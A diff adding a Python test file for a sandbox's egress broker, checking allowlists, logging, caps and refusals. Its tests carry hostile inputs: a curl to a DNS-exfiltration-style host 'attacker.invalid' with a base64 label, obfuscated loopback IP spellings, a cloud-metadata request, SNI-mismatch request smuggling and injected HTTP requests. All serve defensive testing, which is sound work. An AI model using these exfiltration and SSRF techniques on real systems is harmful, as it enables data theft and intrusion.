@@ -1,0 +1,293 @@
+"""Egress: deny by default, open per host through the broker, every attempt logged. Upstreams are local
+servers on 127.0.0.1; made-up names (*.example.test) reach them through a counting test resolver."""
+
+from __future__ import annotations
+
+import datetime
+import http.server
+import ipaddress
+import json
+import socket
+import ssl
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from stockade.config import HostConfig
+from stockade.sdk.portal import portal
+from stockade.sdk.sandbox import _transport
+
+
+class Upstream:
+    """An HTTP server (and a TLS one for api.example.test) on 127.0.0.1, with a record of what arrived."""
+
+    def __init__(self, tmp: Path) -> None:
+        seen = self.seen = []  # type: list[tuple[str, str, int]]
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802
+                self._answer(0)
+
+            def do_POST(self) -> None:  # noqa: N802
+                received = len(self.rfile.read(int(self.headers.get("Content-Length", 0))))
+                self._answer(received)
+
+            def _answer(self, received: int) -> None:
+                seen.append((self.command, self.path, received))
+                body = f"upstream saw {self.path}\n".encode()
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.cert = tmp / "cert.pem"
+        key = tmp / "key.pem"
+        _self_signed(self.cert, key, "api.example.test")
+        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+        ctx.load_cert_chain(self.cert, key)
+        self.tls.socket = ctx.wrap_socket(self.tls.socket, server_side=True)
+        self.port = self.http.server_address[1]
+        self.tls_port = self.tls.server_address[1]
+        for server in (self.http, self.tls):
+            threading.Thread(target=server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        for server in (self.http, self.tls):
+            server.shutdown()
+            server.server_close()
+
+
+def _self_signed(cert: Path, key: Path, name: str) -> None:
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+    from cryptography.x509.oid import NameOID
+
+    k = ec.generate_private_key(ec.SECP256R1())
+    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
+    now = datetime.datetime.now(datetime.timezone.utc)
+    c = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(k.public_key())
+         .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(minutes=5))
+         .not_valid_after(now + datetime.timedelta(hours=1))
+         .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
+         .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
+         .sign(k, hashes.SHA256()))
+    cert.write_bytes(c.public_bytes(serialization.Encoding.PEM))
+    key.write_bytes(k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                    serialization.NoEncryption()))
+
+
+@pytest.fixture
+def upstream(tmp_path: Path) -> Iterator[Upstream]:
+    server = Upstream(tmp_path)
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def lookups() -> Iterator[list[str]]:
+    """Every name the broker resolves; *.example.test resolves to 127.0.0.1, anything else to nothing."""
+    asked: list[str] = []
+
+    async def resolver(host: str, port: int) -> list[ipaddress.IPv4Address]:
+        asked.append(host)
+        return [ipaddress.IPv4Address("127.0.0.1")] if host.endswith(".example.test") else []
+
+    async def swap(new):  # type: ignore[no-untyped-def]
+        manager = await _transport(None).manager()
+        old, manager.resolver = manager.resolver, new
+        return old
+
+    previous = portal().call(swap(resolver))
+    yield asked
+    portal().call(swap(previous))
+
+
+def allow(*rules: str, **extra: object) -> dict[str, object]:
+    return {"network": {"mode": "allowlist", "allow": list(rules), "allow_private": ["127.0.0.1/32"], **extra}}
+
+
+def py(sb, code: str) -> str:  # type: ignore[no-untyped-def]
+    r = sb.commands.run(["python3", "-c", code])
+    return r.stdout + r.stderr
+
+
+def test_no_network_by_default(make_sandbox, upstream):
+    sb = make_sandbox()
+    env = sb.commands.run("env").stdout
+    assert "PROXY" not in env.upper()
+    assert not sb.files.exists("/run/stockade")
+    r = sb.commands.run(f"curl -sS --max-time 5 http://127.0.0.1:{upstream.port}/; echo rc=$?")
+    assert "rc=0" not in r.stdout and upstream.seen == []
+
+
+def test_allowed_host_through_curl_python_and_socks(make_sandbox, upstream, lookups):
+    sb = make_sandbox(**allow(f"api.example.test:{upstream.port}"))
+    url = f"http://api.example.test:{upstream.port}"
+    assert sb.commands.run(f"curl -sS {url}/curl").stdout == "upstream saw /curl\n"
+    assert "upstream saw /py" in py(sb, f"import urllib.request; print(urllib.request.urlopen('{url}/py').read())")
+    r = sb.commands.run(f"curl -sS --proxy socks5h://127.0.0.1:1080 {url}/socks")
+    assert r.stdout == "upstream saw /socks\n"
+    assert [s[1] for s in upstream.seen] == ["/curl", "/py", "/socks"]
+    events = sb.network.events()
+    assert [(e["protocol"], e["decision"], e["host"], e["address"]) for e in events] == [
+        ("http", "allow", "api.example.test", "127.0.0.1"), ("http", "allow", "api.example.test", "127.0.0.1"),
+        ("socks5", "allow", "api.example.test", "127.0.0.1")]
+    assert events[0]["status"] == 200 and events[0]["bytes_in"] > 0 and events[0]["rule"].startswith("allow:")
+    log = HostConfig.from_env().data_dir / "network" / f"{sb.sandbox_id}.jsonl"
+    assert [json.loads(line).get("path") for line in log.read_text().splitlines()] == ["/curl", "/py", None]
+
+
+def test_https_through_connect_and_the_sni_check(make_sandbox, upstream, lookups):
+    sb = make_sandbox(**allow(f"api.example.test:{upstream.tls_port}", f"other.example.test:{upstream.tls_port}"))
+    sb.files.write("ca.pem", upstream.cert.read_text())
+    ok = sb.commands.run(f"curl -sS --cacert ca.pem https://api.example.test:{upstream.tls_port}/tls")
+    assert ok.stdout == "upstream saw /tls\n", ok.stderr
+    # A client that CONNECTs to one allowed name but says another in its TLS handshake is refused.
+    code = f"""
+import socket, ssl
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"CONNECT other.example.test:{upstream.tls_port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
+assert s.recv(100).startswith(b"HTTP/1.1 200")
+ctx = ssl.create_default_context(cafile="ca.pem"); ctx.check_hostname = False
+try:
+    ctx.wrap_socket(s, server_hostname="api.example.test").sendall(b"GET /smuggled HTTP/1.0\\r\\n\\r\\n")
+    print("handshake completed")
+except (ssl.SSLError, OSError) as e:
+    print("refused", type(e).__name__)
+"""
+    assert py(sb, code).startswith("refused")
+    assert "/smuggled" not in [s[1] for s in upstream.seen]
+    mismatch = [e for e in sb.network.events() if e.get("rule") == "sni-mismatch"]
+    assert mismatch and mismatch[0]["sni"] == "api.example.test" and mismatch[0]["host"] == "other.example.test"
+
+
+def test_denied_names_get_a_readable_403_and_never_reach_the_resolver(make_sandbox, upstream, lookups):
+    sb = make_sandbox(**allow(f"*.example.test:{upstream.port}", deny=["secret.example.test"]))
+    exfil = "c2VjcmV0LWRhdGE.attacker.invalid"
+    r = sb.commands.run(f"curl -sS -i http://{exfil}/")
+    assert r.stdout.startswith("HTTP/1.1 403") and f"egress to {exfil.lower()}:80 denied" in r.stdout
+    assert "network.allow" in r.stdout
+    r = sb.commands.run(f"curl -sS http://secret.example.test:{upstream.port}/")
+    assert "network.deny 'secret.example.test'" in r.stdout
+    r = sb.commands.run(f"curl -sS --proxy socks5h://127.0.0.1:1080 http://{exfil}/; echo rc=$?")
+    assert "rc=0" not in r.stdout
+    assert exfil.lower() not in lookups and "secret.example.test" not in lookups
+    assert upstream.seen == []
+
+
+def test_private_addresses_are_refused_whatever_the_spelling(make_sandbox, upstream, lookups):
+    sb = make_sandbox(network={"mode": "allowlist", "allow": ["*.example.test", "127.0.0.0/8"]})  # no allow_private
+    r = sb.commands.run(f"curl -sS http://api.example.test:{upstream.port}/")
+    assert "resolves to 127.0.0.1, a private/internal address" in r.stdout
+    for spelling in ("127.0.0.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]"):
+        # --noproxy '': NO_PROXY lists 127.0.0.1 (the sandbox's own loopback); force these through the broker
+        r = sb.commands.run(f"curl -sS --max-time 5 --noproxy '' http://{spelling}:{upstream.port}/")
+        assert "private/internal address" in r.stdout, (spelling, r.stdout, r.stderr)
+    for blocked in ("169.254.169.254", "10.1.2.3", "100.64.0.1"):  # metadata, private, CGNAT: never contacted
+        sb.network.update(allow=[f"{blocked}:80"])
+        assert "private/internal" in sb.commands.run(f"curl -sS --max-time 5 http://{blocked}/").stdout
+    assert upstream.seen == []
+
+
+def test_direct_connections_dns_udp_and_raw_sockets_fail(make_sandbox, upstream):
+    sb = make_sandbox(**allow("*.example.test"))
+    code = f"""
+import socket
+out = []
+for target in [("127.0.0.1", {upstream.port}), ("192.0.2.1", 80)]:
+    s = socket.socket(); s.settimeout(3)
+    try: s.connect(target); out.append("connected")
+    except OSError: out.append("no")
+try: socket.getaddrinfo("api.example.test", 80); out.append("resolved")
+except OSError: out.append("no")
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try: u.sendto(b"x", ("192.0.2.1", 53)); out.append("sent")
+except OSError: out.append("no")
+try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); out.append("raw")
+except OSError: out.append("no")
+print(" ".join(out))
+"""
+    assert py(sb, code).split() == ["no"] * 5
+    assert upstream.seen == []
+
+
+@pytest.mark.parametrize("request_bytes", [
+    b"CONNECT api.example.test:80\r\nX-Injected: 1 HTTP/1.1\r\n\r\n",
+    b"CONNECT user@api.example.test:80 HTTP/1.1\r\n\r\n",
+    b"GET /relative HTTP/1.1\r\n\r\n",
+    b"NONSENSE\r\n\r\n",
+    b"GET http://api.example.test/ HTTP/1.1\r\n" + b"X-Long: " + b"a" * 100_000 + b"\r\n\r\n",
+    b"GET http://api.example.test/ HTTP/1.1\r\n" + b"".join(b"H%d: v\r\n" % i for i in range(500)) + b"\r\n",
+    b"\x00\xff\x16garbage\r\n\r\n",
+])
+def test_malformed_and_hostile_requests_are_refused(make_sandbox, upstream, lookups, request_bytes):
+    sb = make_sandbox(**allow("*.example.test"))
+    sb.files.write("req.bin", request_bytes)
+    code = """
+import socket
+s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(10)
+s.sendall(open("req.bin", "rb").read())
+data = b""
+try:
+    while chunk := s.recv(4096): data += chunk
+except OSError: pass
+print(data.split(b"\\r\\n")[0].decode(errors="replace"))
+"""
+    first_line = py(sb, code).strip()
+    assert not first_line.startswith("HTTP/1.1 200"), first_line
+    assert upstream.seen == []
+    assert sb.commands.run(f"curl -sS http://api.example.test:{upstream.port}/ok").stdout == "upstream saw /ok\n"
+
+
+def test_connection_and_byte_caps(make_sandbox, upstream, lookups):
+    sb = make_sandbox(**allow("*.example.test", max_connections=2, max_egress_bytes="64KiB"))
+    code = """
+import socket, time
+held = []
+for i in range(2):
+    s = socket.create_connection(("127.0.0.1", 3128)); held.append(s)
+    s.sendall(b"CONNECT api.example.test:%d HTTP/1.1\\r\\n\\r\\n" % PORT); s.recv(100)
+third = socket.create_connection(("127.0.0.1", 3128)); third.settimeout(10)
+third.sendall(b"CONNECT api.example.test:%d HTTP/1.1\\r\\n\\r\\n" % PORT)
+print(third.recv(200).split(b"\\r\\n")[0].decode())
+""".replace("PORT", str(upstream.port))
+    assert py(sb, code).strip() == "HTTP/1.1 403 Forbidden"
+    r = sb.commands.run(f"head -c 200000 /dev/zero > big; curl -sS --max-time 10 -X POST --data-binary @big "
+                        f"http://api.example.test:{upstream.port}/upload; echo rc=$?")
+    assert "rc=0" not in r.stdout
+    assert all(received < 200000 for _, _, received in upstream.seen)  # the cap cut the upload
+    assert any(e.get("reason") == "network.max_egress_bytes reached" for e in sb.network.events())
+
+
+def test_update_narrows_and_widens_new_connections(make_sandbox, upstream, lookups):
+    sb = make_sandbox(**allow(f"api.example.test:{upstream.port}"))
+    url = f"http://api.example.test:{upstream.port}"
+    assert sb.commands.run(f"curl -sS {url}/1").stdout == "upstream saw /1\n"
+    sb.network.update(allow=[])
+    assert "denied" in sb.commands.run(f"curl -sS {url}/2").stdout
+    sb.network.update(allow=[f"*.example.test:{upstream.port}"])
+    assert sb.commands.run(f"curl -sS http://b.example.test:{upstream.port}/3").stdout == "upstream saw /3\n"
+    from stockade import PolicyError
+
+    with pytest.raises(PolicyError, match="network.allow"):
+        sb.network.update(allow=["not a host"])
+    offline = make_sandbox()
+    with pytest.raises(PolicyError, match="network.mode"):
+        offline.network.update(mode="allowlist", allow=["api.example.test"])
+
+
+def test_a_denied_sandbox_cannot_use_another_sandboxes_broker(make_sandbox, upstream, lookups):
+    open_sb = make_sandbox(**allow(f"api.example.test:{upstream.port}"))
+    closed = make_sandbox(**allow("nothing.example.test"))
+    assert "denied" in closed.commands.run(f"curl -sS http://api.example.test:{upstream.port}/").stdout
+    assert closed.commands.run("ls /run/stockade").stdout == "broker.sock\n"  # only its own socket
+    assert open_sb.commands.run(f"curl -sS http://api.example.test:{upstream.port}/x").stdout.startswith("upstream")
+    socket.gethostname()  # the host is untouched
